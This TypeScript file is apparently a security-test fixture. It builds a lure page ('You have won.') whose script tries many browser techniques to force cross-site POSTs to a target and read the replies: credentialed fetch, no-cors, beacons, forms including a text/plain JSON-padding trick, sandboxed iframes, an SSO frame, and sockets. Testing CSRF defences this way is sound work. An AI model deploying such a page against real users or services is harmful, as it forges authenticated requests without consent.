/**
 * A web page that tries everything a page can do to make a browser post `body` to `target`, and to show what comes back. It
 * offers `attack()`, which resolves with what each way could read: its name, and the text or why there was none.
 */
export function hostilePage(target: string, body: string): string {
  const words = { target, body };
  return `<!doctype html><meta charset="utf-8"><title>Prizes</title><script>
const { target, body } = ${JSON.stringify(words).replaceAll('<', '\\u003c')};
const json = { 'Content-Type': 'application/json' };
const posted = async (options) => (await fetch(target, { method: 'POST', body, ...options })).text();
const element = (name, set) => new Promise((resolve) => {
  const made = Object.assign(document.createElement(name), set);
  made.onload = () => resolve(made);
  made.onerror = () => resolve(made);
  document.body.append(made);
});
/** Text of a frame, which only a page of the same origin can read. */
const textOf = (frame) => frame.contentDocument.body.textContent;
const form = async (enctype) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  document.body.append(frame);
  const made = Object.assign(document.createElement('form'), { action: target, method: 'post', enctype, target: frame.name });
  // As text the two halves join with "=" to a whole JSON object.
  const input = Object.assign(document.createElement('input'), { name: body.slice(0, -1) + ',"pad":"', value: '"}' });
  made.append(input);
  document.body.append(made);
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  made.submit();
  await loaded;
  return textOf(frame);
};
const request = (isAsync) => new Promise((resolve, reject) => {
  const made = new XMLHttpRequest();
  made.open('POST', target, isAsync);
  made.setRequestHeader('Content-Type', 'text/plain');
  made.onload = () => resolve(made.responseText);
  made.onerror = () => reject(new Error('nothing to read'));
  made.send(body);
  if (!isAsync) resolve(made.responseText);
});
const sandboxed = () => new Promise((resolve, reject) => {
  window.onmessage = ({ data }) => (data.text === undefined ? reject(new Error(data.reason)) : resolve(data.text));
  const script = 'fetch(' + JSON.stringify(target) + ', ' + JSON.stringify({ method: 'POST', body }) + ').then((r) => r.text())' +
    '.then((text) => parent.postMessage({ text }, "*"), (error) => parent.postMessage({ reason: String(error) }, "*"))';
  element('iframe', { sandbox: 'allow-scripts', srcdoc: '<script>' + script + '<' + '/script>' });
});
const channel = (made, good) => new Promise((resolve, reject) => {
  made[good] = () => resolve('open');
  made.onerror = () => { made.close(); reject(new Error('closed')); };
});
const ways = {
  'fetch of JSON': () => posted({ headers: json }),
  'fetch of text': () => posted({}),
  'fetch of text, not to be read': () => posted({ mode: 'no-cors' }),
  'fetch of JSON, not to be read': () => posted({ mode: 'no-cors', headers: json }),
  'fetch with credentials': () => posted({ credentials: 'include' }),
  'fetch that outlives the page': () => posted({ keepalive: true, mode: 'no-cors' }),
  'fetch of fields': () => posted({ body: new URLSearchParams(JSON.parse(body)) }),
  'XMLHttpRequest': () => request(true),
  'XMLHttpRequest that blocks': () => request(false),
  'beacon of text': () => String(navigator.sendBeacon(target, body)) && '',
  'beacon of JSON': () => String(navigator.sendBeacon(target, new Blob([body], { type: 'application/json' }))) && '',
  'form of text': () => form('text/plain'),
  'form of fields': () => form('application/x-www-form-urlencoded'),
  'form of parts': () => form('multipart/form-data'),
  'page without an origin': sandboxed,
  'frame': async () => textOf(await element('iframe', { src: target })),
  'frame of the interface': async () => textOf(await element('iframe', { src: new URL('/sso.html?s=guess', target) })),
  'script': async () => (await element('script', { src: target })) && '',
  'picture': async () => (await element('img', { src: target })) && '',
  'events': () => channel(new EventSource(target), 'onopen'),
  'socket': () => channel(new WebSocket(target.replace('http', 'ws')), 'onopen'),
};
async function attack() {
  const read = [];
  for (const [name, run] of Object.entries(ways)) {
    read.push(await Promise.resolve().then(run).then((text) => ({ name, text }), (error) => ({ name, text: '', why: String(error) })));
  }
  return read;
}
</script><body>You have won.</body>`;
}
